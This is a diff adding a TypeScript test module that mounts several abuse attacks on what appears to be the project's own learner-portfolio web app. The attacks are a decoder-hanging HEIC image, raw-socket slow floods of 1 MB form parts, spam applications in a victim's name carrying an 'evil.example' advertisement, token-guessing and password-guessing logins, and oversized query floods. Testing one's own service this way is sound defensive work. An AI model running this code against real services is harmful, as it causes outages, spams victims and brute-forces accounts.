@@ -1,0 +1,174 @@
+import { readdir, readFile } from "node:fs/promises";
+import { connect } from "node:net";
+import { join } from "node:path";
+import { setTimeout } from "node:timers/promises";
+import { newDraft } from "../saving.ts";
+
+/** Where an attack is made: the product, its data folder, and learners who are signed in. */
+export interface Target {
+  url: string;
+  folder: string;
+  tokens: string[];
+}
+
+/** What an attack heard: how often each status, 0 for none; and figures of its own. */
+export interface Heard {
+  statuses: Record<string, number>;
+  figures: Record<string, number>;
+}
+
+export interface Attack {
+  point: string;
+  says: string;
+  settings?: Record<string, string>;
+  make(target: Target): Promise<Heard>;
+}
+
+const attacks: Attack[] = [
+  { point: "A1", says: "a picture of 440 bytes that some readers never come to the end of", make: sendEndlessPicture },
+  { point: "A2", says: "75 strangers pour texts of 1 MB into registration and stay", make: pourIntoRegistration },
+  { point: "A2", says: "75 sessions pour texts of 1 MB into portfolios and stay", make: pourIntoPortfolios },
+  { point: "A3", says: "40 applications in somebody else's name", make: applyForOthers },
+  {
+    point: "A4",
+    says: "400 logins, each with another invented token",
+    settings: { CALLS_PER_MINUTE: "300" },
+    make: inventTokens,
+  },
+  { point: "A4", says: "20 wrong guesses, then a device that is known", make: guessBesideDevice },
+  { point: "A5", says: "3,000 lists with 8 kB of query each", make: askOddly },
+];
+export default attacks;
+
+const heicHeader = Buffer.from("000000186674797068656963000000006d69663168656963", "hex");
+
+async function sendEndlessPicture({ url, tokens }: Target): Promise<Heard> {
+  const picture = Buffer.concat([heicHeader, Buffer.alloc(416)]);
+  const { body, type } = await newDraft(1, [picture]);
+  const [token] = tokens;
+  const answer = await fetch(`${url}/api/portfolios/save`, {
+    method: "POST",
+    headers: { "content-type": type, authorization: `Bearer ${token}` },
+    body,
+    signal: AbortSignal.timeout(20_000),
+  }).catch(() => undefined); // A server that hangs is what this looks for.
+  return { statuses: { [answer?.status ?? 0]: 1 }, figures: {} };
+}
+
+function pourIntoRegistration({ url }: Target): Promise<Heard> {
+  return pour(Array.from({ length: 75 }, () => ({ url, path: "/api/users/register", headers: [] })));
+}
+
+function pourIntoPortfolios({ url, tokens }: Target): Promise<Heard> {
+  const headers = (nth: number) => [`authorization: Bearer ${tokens[nth % tokens.length]}`];
+  return pour(Array.from({ length: 75 }, (_, nth) => ({ url, path: "/api/portfolios/save", headers: headers(nth) })));
+}
+
+interface Pouring {
+  url: string;
+  path: string;
+  headers: string[];
+}
+
+async function pour(pourings: Pouring[]): Promise<Heard> {
+  return tally(await Promise.all(pourings.map(pourOne)));
+}
+
+// Sends for five seconds as fast as it is read, sixty texts of 1 MB at most, then keeps the connection for three more.
+async function pourOne({ url, path, headers }: Pouring): Promise<number> {
+  const { hostname, port } = new URL(url);
+  const socket = connect(Number(port), hostname);
+  let status = 0;
+  socket.on("error", () => undefined); // Being cut off is what it came for.
+  socket.setEncoding("utf8").on("data", (text: string) => {
+    status ||= Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0);
+  });
+  const type = "content-type: multipart/form-data; boundary=x";
+  socket.write([`POST ${path} HTTP/1.1`, "host: x", ...headers, type, "content-length: 70000000", "", ""].join("\r\n"));
+  const until = Date.now() + 5000;
+  for (let nth = 0; nth < 60 && Date.now() < until && !socket.destroyed && status === 0; nth++) {
+    const part = `--x\r\ncontent-disposition: form-data; name="f${nth}"\r\n\r\n${"x".repeat(1_000_000)}\r\n`;
+    if (!socket.write(part))
+      await Promise.race([new Promise((resolve) => socket.once("drain", resolve)), setTimeout(500)]);
+  }
+  await setTimeout(3000);
+  socket.destroy();
+  return status;
+}
+
+async function applyForOthers({ url, folder }: Target): Promise<Heard> {
+  const statuses: number[] = [];
+  for (let nth = 0; nth < 40; nth++) {
+    const application = {
+      familyName: `Now ${nth}`,
+      firstName: "WIN at https://evil.example",
+      email: "victim@example.com",
+      courseToStudy: "NVQ Level 3 Electrical Installation (2357-44)",
+      dateOfBirth: "2001-03-27",
+      agreedToDeclaration: true,
+    };
+    statuses.push(await post(`${url}/api/application-form`, application));
+  }
+  await setTimeout(4000);
+  const names = await readdir(join(folder, "mail")).catch(() => []); // No letter at all is possible.
+  const letters = await Promise.all(names.map((name) => readFile(join(folder, "mail", name), "utf8")));
+  const toVictim = letters.filter((letter) => /^To:.*victim@example\.com/m.test(letter));
+  const repeating = toVictim.filter((letter) => /evil|WIN/.test(letter));
+  return {
+    ...tally(statuses),
+    figures: { letters: toVictim.length, "that repeat the advertisement": repeating.length },
+  };
+}
+
+async function inventTokens({ url }: Target): Promise<Heard> {
+  const statuses: number[] = [];
+  const guess = { email: "nobody@example.com", password: "a wrong guess" };
+  for (let nth = 0; nth < 400; nth++)
+    statuses.push(await post(`${url}/api/users/login`, guess, { authorization: `Bearer invented.${nth}.token` }));
+  return tally(statuses);
+}
+
+async function guessBesideDevice({ url }: Target): Promise<Heard> {
+  const [email, password] = ["owner@example.com", "correct-horse-9"];
+  const form = new FormData();
+  const fields = { name: "Olu Owner", email, password, dob: "2000-01-01", postcode: "LS1 1AA", qualification: "None" };
+  for (const [name, value] of Object.entries({ ...fields, phone: "0113", referenceNo: "R", role: "student" }))
+    form.append(name, value);
+  await (await fetch(`${url}/api/users/register`, { method: "POST", body: form })).arrayBuffer();
+  const login = `${url}/api/users/login`;
+  const headers = { "content-type": "application/json" };
+  const first = await fetch(login, { method: "POST", headers, body: JSON.stringify({ email, password }) });
+  const cookie = first.headers.get("set-cookie")?.split(";")[0] ?? "";
+  const statuses: number[] = [];
+  for (let nth = 0; nth < 20; nth++) statuses.push(await post(login, { email, password: "a wrong guess" }));
+  const known = await post(login, { email, password }, { cookie });
+  const stranger = await post(login, { email, password });
+  return { ...tally(statuses), figures: { "known device": known, stranger } };
+}
+
+async function askOddly({ url, tokens: [token] }: Target): Promise<Heard> {
+  const statuses: number[] = [];
+  for (let nth = 0; nth < 3000; nth++) {
+    const answer = await fetch(`${url}/api/portfolios/user-portfolios?x=${nth}${"y".repeat(8000)}`, {
+      headers: { authorization: `Bearer ${token}` },
+    });
+    await answer.arrayBuffer();
+    statuses.push(answer.status);
+  }
+  return tally(statuses);
+}
+
+async function post(url: string, body: object, headers: Record<string, string> = {}): Promise<number> {
+  const answer = await fetch(url, {
+    method: "POST",
+    headers: { "content-type": "application/json", ...headers },
+    body: JSON.stringify(body),
+  });
+  await answer.arrayBuffer();
+  return answer.status;
+}
+
+function tally(statuses: number[]): Heard {
+  const counted = Map.groupBy(statuses, (status) => status);
+  return { statuses: Object.fromEntries([...counted].map(([status, of]) => [status, of.length])), figures: {} };
+}
